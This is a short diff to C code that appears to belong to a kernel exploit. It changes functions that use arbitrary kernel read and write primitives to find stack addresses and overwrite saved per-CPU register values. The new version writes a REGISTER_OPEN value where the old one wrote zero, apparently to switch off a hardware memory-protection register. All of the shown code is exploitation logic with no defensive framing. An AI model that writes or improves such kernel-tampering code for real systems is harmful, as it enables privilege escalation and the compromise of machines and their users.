@@ -75,7 +75,7 @@ static void use_save_slots(void)
 
 static bool is_stack_address(uint64_t value)
 {
-	uint64_t vmalloc = kread64(ksymbol("vmalloc_base"));
+	uint64_t vmalloc = vmalloc_base();
 
 	return value > vmalloc && value - vmalloc < 1UL << 45 && value % PAGE_SIZE;
 }
@@ -94,12 +94,12 @@ static void forge_slots_of_cpu(int cpu)
 		return;
 	for (i = 0; i + 1 < PAGE_WORDS; i++)
 		if (is_stack_address(words[i]))
-			kwrite64(state + (i + 1) * 8, words[i + 1] & ~0xffffffffUL);
+			kwrite64(state + (i + 1) * 8, (words[i + 1] & ~0xffffffffUL) | REGISTER_OPEN);
 }
 
 /*
- * Words that hold the register's closed value become 0, all open. Returns how
- * many there were.
+ * Words that hold the register's closed value become all open. Returns how many
+ * there were.
  */
 static int forge_words(uint64_t from, uint64_t size, uint64_t closed)
 {
@@ -109,7 +109,7 @@ static int forge_words(uint64_t from, uint64_t size, uint64_t closed)
 	for (at = from; closed && at < from + size; at += sizeof(word)) {
 		if (kread(at, &word, sizeof(word)))
 			break;
-		if (word == closed && !kwrite64(at, 0))
+		if (word == closed && !kwrite64(at, REGISTER_OPEN))
 			count++;
 	}
 	return count;
